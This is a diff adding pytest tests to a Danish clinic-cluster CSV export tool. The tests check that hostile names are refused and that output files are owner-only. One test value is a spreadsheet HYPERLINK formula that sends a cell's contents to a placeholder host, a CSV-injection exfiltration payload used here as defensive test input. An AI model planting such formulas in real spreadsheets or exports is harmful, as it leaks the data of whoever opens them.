@@ -310,3 +310,39 @@ def test_the_period_must_be_given_and_sound(tmp_path, period):
     assert result.returncode == 2
     assert result.stderr.startswith("Angiv den periode, udtrækket dækker, med første og sidste dag: FRA=2024-01-01")
     assert not (tmp_path / "ud").exists()
+
+
+def renamed(tmp_path, cluster: str, practice: str | None = None):
+    """The demo extract with Klynge Syd renamed (and, optionally, its first practice)."""
+    extract = pd.read_csv(DEMO, sep=";", encoding="utf-8-sig", dtype=str)
+    if practice is not None:
+        first = extract.loc[extract["Klynge"] == "Klynge Syd (fiktiv)", "Praksis"].iloc[0]
+        extract.loc[extract["Praksis"] == first, "Praksis"] = practice
+    extract.loc[extract["Klynge"] == "Klynge Syd (fiktiv)", "Klynge"] = cluster
+    path = tmp_path / "udtraek.csv"
+    extract.to_csv(path, sep=";", index=False, encoding="utf-8-sig")
+    return path
+
+
+@pytest.mark.parametrize(
+    ("cluster", "practice", "message"),
+    [
+        ('=HYPERLINK("http://127.0.0.2/?d="&B2,"Klik")', None, "begynder med «=», som et regneark læser som en formel"),
+        ("Klynge Syd (fiktiv)", "+1+1", "Praksis «+1+1» i klyngen «Klynge Syd (fiktiv)» begynder med «+»"),
+        ("Klynge\u202eSyd", None, "usynligt tegn (U+202E)"),
+        ("K" * 300, None, "er 300 tegn langt; et navn har højst 80 tegn"),
+    ],
+)
+def test_hostile_names_are_refused_in_danish_and_nothing_is_written(tmp_path, cluster, practice, message):
+    result = klyngedata(renamed(tmp_path, cluster, practice), tmp_path / "ud", *FIXED, "--aabne", cluster)
+    assert result.returncode == 1, result.stderr
+    assert message in result.stderr and "Traceback" not in result.stderr
+    assert not (tmp_path / "ud").exists() or not any((tmp_path / "ud").iterdir())
+
+
+def test_files_are_for_their_owner_only_and_a_device_name_is_no_file_name(tmp_path):
+    result = klyngedata(renamed(tmp_path, "CON"), tmp_path / "ud", *FIXED)
+    assert result.returncode == 0, result.stderr
+    names = sorted(path.name for path in (tmp_path / "ud").iterdir())
+    assert "con-klynge.csv" in names and "con.csv" not in names
+    assert {oct((tmp_path / "ud" / name).stat().st_mode & 0o777) for name in names} == {"0o600"}
